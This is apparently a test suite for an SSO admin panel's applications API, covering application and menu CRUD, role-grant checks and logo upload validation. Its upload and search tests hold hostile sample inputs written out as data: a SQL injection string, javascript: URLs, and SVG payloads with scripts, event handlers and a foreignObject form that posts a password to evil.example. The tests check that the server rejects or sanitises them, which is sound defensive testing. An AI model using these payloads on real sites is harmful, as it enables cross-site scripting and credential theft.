import {
  applicationDetailResponseSchema,
  applicationListResponseSchema,
  applicationsResponseSchema,
  deleteResponseSchema,
  logoUploadResponseSchema,
  menuWithChildResponseSchema,
  paths,
  roleListResponseSchema,
  roleResponseSchema,
  applicationListQuerySchema,
} from '@sso/shared/contract';
import { createApplicationPayload, createRolePayload } from '../test-support/factories';
import { MODIFIER, call, callRoot, expectError, expectOk, openSession } from '../test-support/http';
import { applicationDetail, payloadOf, treeOf } from '../test-support/app-menus';
import { adminRequests } from '../test-support/crud';
import { openTestStore, useAdminTestApp } from '../test-support/test-app';

const t = useAdminTestApp();

const { list, create, update, remove, createOk } = adminRequests(
  t,
  paths.applications,
  {
    query: applicationListQuerySchema,
    list: applicationListResponseSchema,
    created: applicationDetailResponseSchema,
  },
  createApplicationPayload,
);
const detail = (id: number) => applicationDetail(t.app, t.token, id);

async function grantToNewRole(appsId: number, menuIds: number[] = []) {
  const body = createRolePayload({
    applications: [{ apps_id: appsId, menus: menuIds.map((id) => ({ id, access_level: 3, children: [] })) }],
  });
  const reply = await call(t.app, 'POST', paths.roles.create, { token: t.token, body });
  return expectOk(reply, roleResponseSchema, 201).data;
}

const upload = (data: string, file_name = 'logo.png') =>
  call(t.app, 'POST', paths.applications.logo, { token: t.token, body: { file_name, data } });
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

describe('GET applications/list and detail', () => {
  it('lists the seeded applications with menu and role counts, searches, sorts and pages', async () => {
    const all = await list({ sortBy: 'id', perPage: 100 });
    expect(all.data.slice(0, 5).map((a) => a.name)).toEqual([
      'SSO Admin Panel',
      'HRIS',
      'Finance',
      'Inventory',
      'Sales',
    ]);
    const panel = all.data[0];
    expect(panel?.menu_count).toBe(13); // with Log Aktivitas (issue 20), Settings without sub-menus (issue 37), Peta Akses (issue 32)
    expect(panel?.role_count).toBeGreaterThanOrEqual(3);
    expect(panel?.logo_uploaded).toBe(false);
    expect((await list({ keyword: 'fin' })).data.map((a) => a.name)).toEqual(['Finance']);
    expect((await list({ keyword: "'; DROP TABLE applications; --" })).meta.total).toBe(0);
    const byName = (await list({ sortBy: 'name', sort: 'desc', perPage: 100 })).data.map((a) =>
      a.name.toLowerCase(),
    );
    expect(byName).toEqual([...byName].sort().reverse());
    const page = await list({ perPage: 2, page: 2, sortBy: 'id' });
    expect(page.data.map((a) => a.name)).toEqual(['Finance', 'Inventory']);
    expect(
      expectError(
        await call(t.app, 'GET', paths.applications.list, { token: t.token, query: { sortBy: 'url' } }),
        422,
      ).errors,
    ).toHaveProperty('sortBy');
  });

  it('reads one application with its tree, the roles granting it and the menus the panel locks', async () => {
    const panel = await detail(1);
    expect(panel.deletable).toBe(false);
    const appMenu = panel.menus.find((m) => m.name === 'App Management');
    expect(appMenu?.menu.map((m) => m.name)).toEqual(['Daftar Aplikasi', 'Tambah Aplikasi']);
    const lockedNames = [...panel.menus, ...panel.menus.flatMap((m) => m.menu)]
      .filter((m) => panel.locked_menu_ids.includes(m.id))
      .map((m) => m.name);
    // App 1's tree is the panel's own: every menu of it is locked, its own sub-menus too.
    expect(lockedNames).toEqual(
      expect.arrayContaining(['Home', 'Daftar User', 'Tambah Aplikasi', 'Settings', 'Log Aktivitas']),
    );
    expect(panel.roles.map((r) => r.name)).toEqual(
      expect.arrayContaining(['Super Admin', 'Admin', 'Viewer']),
    );
    expect(
      expectError(await call(t.app, 'GET', paths.applications.detail(99999), { token: t.token }), 404)
        .message,
    ).toBe('Aplikasi tidak ditemukan');
    expect(
      expectError(await call(t.app, 'GET', paths.applications.detail('abc'), { token: t.token }), 404)
        .message,
    ).toBe('Aplikasi tidak ditemukan');
  });
});

describe('POST applications/create', () => {
  it('creates an application with its tree; applications and menu/with-child serve it at once', async () => {
    const app = await createOk({ name: '  Aplikasi Gudang  ', logo_id: null });
    expect(app).toMatchObject({
      name: 'Aplikasi Gudang',
      menu_count: 3,
      role_count: 1,
      blocking_role_count: 0,
      deletable: true,
      logo_uploaded: false,
    });
    // The creator's role holds what it created, at its level on Tambah Aplikasi (owner here).
    expect(app.roles.map((r) => r.name)).toEqual(['Super Admin']);
    expect(app.logo_url).toBe(`http://api.test/static/logos/app-${app.id}.svg`);
    expect(app.menus.map((m) => [m.name, m.menu.map((c) => c.name)])).toEqual([
      ['Dasbor', []],
      ['Laporan', ['Laporan Harian']],
    ]);
    const reference = expectOk(
      await call(t.app, 'GET', paths.reference.applications, { token: t.token }),
      applicationsResponseSchema,
    );
    expect(reference.data.find((a) => a.id === app.id)?.name).toBe('Aplikasi Gudang');
    const menus = expectOk(
      await call(t.app, 'GET', paths.reference.menuWithChild, { token: t.token, query: { apps_id: app.id } }),
      menuWithChildResponseSchema,
    );
    expect(menus.data).toEqual(app.menus);
    const logo = await callRoot(t.app, 'GET', `/static/logos/app-${app.id}.svg`);
    expect(logo.statusCode).toBe(200);
    expect(logo.body).toContain('<svg');
  });

  it('answers 422 per field in Indonesian and writes nothing', async () => {
    const before = (await list()).meta.total;
    const reply = expectError(
      await create({
        name: '   ',
        descriptions: 'x'.repeat(501),
        url: 'javascript:alert(1)',
        menus: [
          { name: 'Stok', children: [{ name: 'Opname' }, { name: ' opname ' }] },
          { name: 'STOK', children: [] },
          { name: '', children: [] },
        ],
      }),
      422,
    );
    expect(reply.errors).toMatchObject({
      name: 'Nama Aplikasi tidak boleh kosong',
      descriptions: 'Deskripsi maksimal 500 karakter',
      url: 'URL Aplikasi harus diawali http:// atau https://',
      'menus.0.children.1.name': 'Nama menu sudah dipakai di tingkat yang sama',
      'menus.1.name': 'Nama menu sudah dipakai di tingkat yang sama',
      'menus.2.name': 'Nama menu tidak boleh kosong',
    });
    expect(expectError(await create({ name: 'Baru', url: '' }), 422).errors).toEqual({
      url: 'URL Aplikasi tidak boleh kosong',
    });
    expect(
      expectError(await create(createApplicationPayload({ name: 'x'.repeat(101) })), 422).errors?.name,
    ).toBe('Nama Aplikasi maksimal 100 karakter');
    expect(
      expectError(await create(createApplicationPayload({ name: 'Gudang\u200b' })), 422).errors?.name,
    ).toBe('Nama Aplikasi tidak boleh berisi karakter kontrol atau karakter tak terlihat');
    const tooMany = Array.from({ length: 20 }, (_, m) => ({
      name: `Menu ${m}`,
      children: Array.from({ length: 10 }, (_, c) => ({ name: `Sub ${c}` })),
    }));
    expect(expectError(await create(createApplicationPayload({ menus: tooMany })), 422).errors?.menus).toBe(
      'Maksimal 200 menu',
    );
    expect((await list()).meta.total).toBe(before);
  });

  it('refuses a name already used, folded (case, width, spaces, NFC), with 409 under the field', async () => {
    const first = await createOk({ name: 'Café Kasir' });
    for (const name of ['café kasir', 'CAFE\u0301  KASIR', 'Ｃａｆé Kasir']) {
      expect(expectError(await create(createApplicationPayload({ name })), 409).errors).toEqual({
        name: 'Nama Aplikasi sudah digunakan',
      });
    }
    expect(first.name).toBe('Café Kasir');
  });

  it('refuses menu ids on create (they belong to another application)', async () => {
    const reply = expectError(
      await create(createApplicationPayload({ menus: [{ id: 1, name: 'Home', children: [] }] })),
      422,
    );
    expect(reply.errors).toEqual({ 'menus.0.id': 'Menu tidak ditemukan di aplikasi ini' });
  });
});

describe('PATCH applications/update/{id}', () => {
  it('renames, reorders, adds and removes menus in one request', async () => {
    const app = await createOk();
    const [dasbor, laporan] = treeOf(app);
    const saved = expectOk(
      await update(app.id, {
        ...payloadOf(app),
        name: 'Aplikasi Diubah',
        menus: [
          { id: laporan?.id, name: 'Laporan Bulanan', children: [{ name: 'Ringkasan' }] },
          { name: 'Pengaturan', children: [{ name: 'Umum' }] },
          { id: dasbor?.id, name: 'Dasbor', children: [] },
        ],
      }),
      applicationDetailResponseSchema,
    ).data;
    expect(saved.name).toBe('Aplikasi Diubah');
    expect(saved.menus.map((m) => [m.name, m.menu.map((c) => c.name)])).toEqual([
      ['Laporan Bulanan', ['Ringkasan']],
      ['Pengaturan', ['Umum']],
      ['Dasbor', []],
    ]);
    expect(saved.menus[0]?.id).toBe(laporan?.id);
    expect(saved.menus[2]?.id).toBe(dasbor?.id);
  });

  it('refuses removing a menu a role grants, naming the roles (409), and keeps everything', async () => {
    const app = await createOk();
    const laporan = app.menus[1];
    const role = await grantToNewRole(app.id, [laporan?.id ?? 0]);
    const reply = expectError(
      await update(app.id, { ...payloadOf(app), menus: treeOf(app).slice(0, 1) }),
      409,
    );
    expect(reply.message).toContain(`"Laporan" (${role.name})`);
    expect(reply.message).toContain('Cabut aksesnya di Role Management');
    expect((await detail(app.id)).menus).toEqual(app.menus);
  });

  it("refuses any change to app 1's menu tree: a rename, a removal or a new menu (the panel's own)", async () => {
    const panel = await detail(1);
    const menus = treeOf(panel);
    const locked =
      'Menu SSO Admin Panel adalah menu panel ini sendiri: tidak dapat ditambah, diganti namanya, atau dihapus melalui App Management.';
    const renamed = menus.map((m) => (m.name === 'Home' ? { ...m, name: 'Beranda' } : m));
    expect(expectError(await update(1, { ...payloadOf(panel), menus: renamed }), 409).message).toBe(locked);
    const withoutAppCreate = menus.map((m) =>
      m.name === 'App Management'
        ? { ...m, children: m.children.filter((c) => c.name !== 'Tambah Aplikasi') }
        : m,
    );
    expect(expectError(await update(1, { ...payloadOf(panel), menus: withoutAppCreate }), 409).message).toBe(
      locked,
    );
    const added = [...menus, { name: 'Laporan Panel', children: [] }];
    expect(expectError(await update(1, { ...payloadOf(panel), menus: added }), 409).message).toBe(locked);
    // Its other fields still save, with the tree as it is.
    expectOk(
      await update(1, { ...payloadOf(panel), descriptions: 'Panel administrasi SSO' }),
      applicationDetailResponseSchema,
    );
    expect((await detail(1)).menus).toEqual(panel.menus);
    expectOk(await update(1, payloadOf(panel)), applicationDetailResponseSchema);
  });

  it('refuses ids of another application, twice the same id, or a sub-menu moved to another menu', async () => {
    const app = await createOk();
    const [dasbor, laporan] = treeOf(app);
    expect(
      expectError(
        await update(app.id, { ...payloadOf(app), menus: [{ id: 2, name: 'User Management' }] }),
        422,
      ).errors,
    ).toEqual({
      'menus.0.id': 'Menu tidak ditemukan di aplikasi ini',
    });
    const child = laporan?.children[0];
    expect(
      expectError(
        await update(app.id, {
          ...payloadOf(app),
          menus: [
            { ...dasbor, children: [child] },
            { ...laporan, children: [] },
          ],
        }),
        422,
      ).errors,
    ).toEqual({ 'menus.0.children.0.id': 'Menu tidak dapat dipindahkan ke menu lain' });
    expect(expectError(await update(99999, payloadOf(app)), 404).message).toBe('Aplikasi tidak ditemukan');
    expect((await detail(app.id)).menus).toEqual(app.menus);
  });
});

describe('DELETE applications/delete/{id}', () => {
  it('deletes an application no role grants, with its menus', async () => {
    const app = await createOk();
    const body = expectOk(await remove(app.id), deleteResponseSchema);
    expect(body).toEqual({ message: 'Aplikasi berhasil dihapus', data: { ids: [app.id], deleted: 1 } });
    expectError(await call(t.app, 'GET', paths.applications.detail(app.id), { token: t.token }), 404);
    expectError(
      await call(t.app, 'GET', paths.reference.menuWithChild, { token: t.token, query: { apps_id: app.id } }),
      404,
    );
  });

  it('refuses while a role grants it, naming the role; app 1 never', async () => {
    const app = await createOk();
    const role = await grantToNewRole(app.id);
    const reply = expectError(await remove(app.id), 409);
    expect(reply.message).toBe(
      `Aplikasi masih diberikan kepada role: ${role.name}. Cabut aksesnya di Role Management sebelum menghapus.`,
    );
    expect(expectError(await remove(1), 409).message).toBe(
      'SSO Admin Panel tidak dapat dihapus: hak akses panel ini bergantung padanya.',
    );
    expect(expectError(await remove(99999), 404).message).toBe('Aplikasi tidak ditemukan');
    expect((await detail(app.id)).roles.map((r) => r.name)).toEqual([role.name, 'Super Admin']);
  });

  it("is not held back by the deleter's own role (its grant came with the creation)", async () => {
    const app = await createOk();
    expect(app.roles.map((r) => r.name)).toEqual(['Super Admin']);
    expectOk(await remove(app.id), deleteResponseSchema);
  });
});

describe('POST applications/logo', () => {
  it('stores a PNG and serves it as image/png with nosniff; an application uses it by logo_id', async () => {
    const { data } = expectOk(await upload(PNG.toString('base64')), logoUploadResponseSchema, 201);
    expect(data.logo_url).toMatch(/^http:\/\/api\.test\/static\/logos\/upload-[0-9]+\.png$/);
    const served = await callRoot(t.app, 'GET', new URL(data.logo_url).pathname);
    expect(served.statusCode).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const app = await createOk({ logo_id: data.logo_id });
    expect(app).toMatchObject({ logo_url: data.logo_url, logo_uploaded: true });
    // Keeping (absent) and going back to the generated logo (null).
    const kept = expectOk(await update(app.id, payloadOf(app)), applicationDetailResponseSchema).data;
    expect(kept.logo_url).toBe(data.logo_url);
    const generated = expectOk(
      await update(app.id, { ...payloadOf(app), logo_id: null }),
      applicationDetailResponseSchema,
    ).data;
    expect(generated.logo_url).toBe(`http://api.test/static/logos/app-${app.id}.svg`);
    expect(expectError(await update(app.id, { ...payloadOf(app), logo_id: 99999 }), 422).errors).toEqual({
      logo_id: 'Logo tidak ditemukan, unggah ulang',
    });
  });

  it('reads the type from the bytes: a PNG renamed .svg is a PNG, a text renamed .png is refused', async () => {
    const renamed = expectOk(
      await upload(PNG.toString('base64'), 'logo.svg'),
      logoUploadResponseSchema,
      201,
    ).data;
    expect(renamed.logo_url).toMatch(/\.png$/);
    expect(
      (await callRoot(t.app, 'GET', new URL(renamed.logo_url).pathname)).headers.get('content-type'),
    ).toBe('image/png');
    expect(new URL(renamed.logo_url).pathname.replace(/\.png$/, '.svg')).toMatch(/svg$/);
    expect(
      (await callRoot(t.app, 'GET', new URL(renamed.logo_url).pathname.replace(/\.png$/, '.svg'))).statusCode,
    ).toBe(404);
    const html = base64('<html><script>alert(1)</script></html>');
    expect(expectError(await upload(html, 'logo.png'), 422).errors).toEqual({
      logo: 'Logo harus berupa gambar PNG, JPEG atau SVG',
    });
    const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(32)]);
    expect(
      expectOk(await upload(jpeg.toString('base64'), 'foto.gif'), logoUploadResponseSchema, 201).data
        .logo_url,
    ).toMatch(/\.jpg$/);
  });

  it('refuses an SVG that could act: scripts, event attributes, foreignObject, external references (issue 36)', async () => {
    const refused =
      'Logo SVG hanya boleh berisi gambar: skrip, foreignObject, tautan ke luar, dan atribut peristiwa tidak diizinkan.';
    const svg = (inner: string, attrs = '') =>
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs}>${inner}</svg>`;
    const hostile = [
      svg('<rect width="10" height="10"/>', ' onload="alert(1)"'),
      svg('<script>alert(document.cookie)</script>'),
      svg(
        '<foreignObject width="200" height="100"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal"><input name="password"/><button>Masuk</button></form></foreignObject>',
      ),
      svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
      svg('<use xlink:href="https://evil.example/sprite.svg#a"/>'),
      svg('<a href="javascript:alert(1)"><rect width="10" height="10"/></a>'),
      svg('<rect width="10" height="10" style="fill: url(https://evil.example/x)"/>'),
      svg('<style>@import url(https://evil.example/a.css);</style><rect width="1" height="1"/>'),
      svg('<rect width="1" height="1"><set attributeName="fill" to="red"/></rect>'),
      '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    ];
    for (const text of hostile) {
      expect([text, expectError(await upload(base64(text), 'logo.svg'), 422).errors]).toEqual([
        text,
        { logo: refused },
      ]);
    }
  });

  it('keeps a drawing (gradients, inner references, styles) and serves it inline under a CSP that runs nothing', async () => {
    const drawing =
      '<?xml version="1.0"?><!-- logo --><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#1e88e5"/></linearGradient><circle id="c" r="2"/></defs><style>.a{fill:#fff}</style><rect width="10" height="10" fill="url(#g)"/><use xlink:href="#c" x="5" y="5" class="a"/><metadata><editor-note>v1</editor-note></metadata></svg>';
    const { data } = expectOk(await upload(base64(drawing), 'logo.svg'), logoUploadResponseSchema, 201);
    const served = await callRoot(t.app, 'GET', new URL(data.logo_url).pathname);
    expect(served.headers.get('content-type')).toBe('image/svg+xml');
    expect(served.headers.get('content-security-policy')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; frame-ancestors 'none'; sandbox",
    );
    expect(served.headers.get('content-disposition')).toBe('inline');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.body).toContain('<linearGradient id="g">');
    expect(served.body).toContain('xlink:href="#c"');
    expect(served.body).toContain('viewBox="0 0 10 10"');
    expect(served.body).not.toContain('editor-note');
    // The generated logos carry the same headers.
    const generated = await callRoot(t.app, 'GET', '/static/logos/app-1.svg');
    expect(generated.headers.get('content-security-policy')).toBe(
      served.headers.get('content-security-policy'),
    );
    expect(generated.headers.get('content-disposition')).toBe('inline');
  });

  it('serves an SVG stored before the rule as its drawing only', async () => {
    const hostile =
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="10" height="10"/></svg>';
    const { store, close } = openTestStore(t);
    const { id } = await store.db
      .insertInto('app_logos')
      .values({ mime: 'image/svg+xml', bytes: Buffer.from(hostile), created_at: 0 })
      .returning('id')
      .executeTakeFirstOrThrow()
      .finally(close);
    const served = await callRoot(t.app, 'GET', `/static/logos/upload-${id}.svg`);
    expect(served.statusCode).toBe(200);
    expect(served.body).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"></rect></svg>',
    );
  });

  it('refuses more than 256 KB, an empty file and what is not base64', async () => {
    const big = Buffer.concat([PNG, Buffer.alloc(256 * 1024)]);
    expect(expectError(await upload(big.toString('base64')), 422).errors).toEqual({
      data: 'Ukuran logo maksimal 256 KB',
    });
    const justOver = Buffer.concat([PNG, Buffer.alloc(256 * 1024 - PNG.length + 1)]);
    expect(expectError(await upload(justOver.toString('base64')), 422).errors).toEqual({
      logo: 'Ukuran logo maksimal 256 KB',
    });
    expect(expectError(await upload(''), 422).errors).toEqual({ data: 'Logo tidak boleh kosong' });
    expect(expectError(await upload('bukan base64!'), 422).errors).toEqual({ data: 'Logo tidak terbaca' });
  });
});

describe('menus added are held by the one who adds them, never more than they hold', () => {
  it("a modifier's role gets a new application and its menus at modifier level; menus added later too", async () => {
    const modifier = await openSession(t.app, MODIFIER);
    const as = { token: modifier.accessToken };
    const created = expectOk(
      await call(t.app, 'POST', paths.applications.create, { ...as, body: createApplicationPayload() }),
      applicationDetailResponseSchema,
      201,
    ).data;
    // The modifier's role, and the application administrators (owners of Daftar Aplikasi).
    expect(created.roles.map((r) => r.name)).toEqual(['Admin', 'Super Admin']);
    const levels = async () => {
      const roles = expectOk(
        await call(t.app, 'GET', paths.roles.list, {
          token: t.token,
          query: { keyword: 'Admin', perPage: 100 },
        }),
        roleListResponseSchema,
      ).data;
      const grant = roles.find((r) => r.name === 'Admin')?.applications.find((a) => a.apps_id === created.id);
      return grant?.menus.flatMap((m) => [
        `${m.name}:${m.acces_level}`,
        ...m.children.map((c) => `${c.name}:${c.acces_level}`),
      ]);
    };
    expect(await levels()).toEqual(['Dasbor:2', 'Laporan:2', 'Laporan Harian:2']);
    const updated = expectOk(
      await call(t.app, 'PATCH', paths.applications.update(created.id), {
        ...as,
        body: { ...payloadOf(created), menus: [...treeOf(created), { name: 'Arsip', children: [] }] },
      }),
      applicationDetailResponseSchema,
    ).data;
    expect(updated.menus.at(-1)?.name).toBe('Arsip');
    expect(await levels()).toEqual(['Dasbor:2', 'Laporan:2', 'Laporan Harian:2', 'Arsip:2']);
    // A modifier deletes nothing; for the owner, the Admin role's grant is another role's: refused.
    expectError(await call(t.app, 'DELETE', paths.applications.remove(created.id), as), 403);
    expect(expectError(await remove(created.id), 409).message).toBe(
      'Aplikasi masih diberikan kepada role: Admin. Cabut aksesnya di Role Management sebelum menghapus.',
    );
  });
});
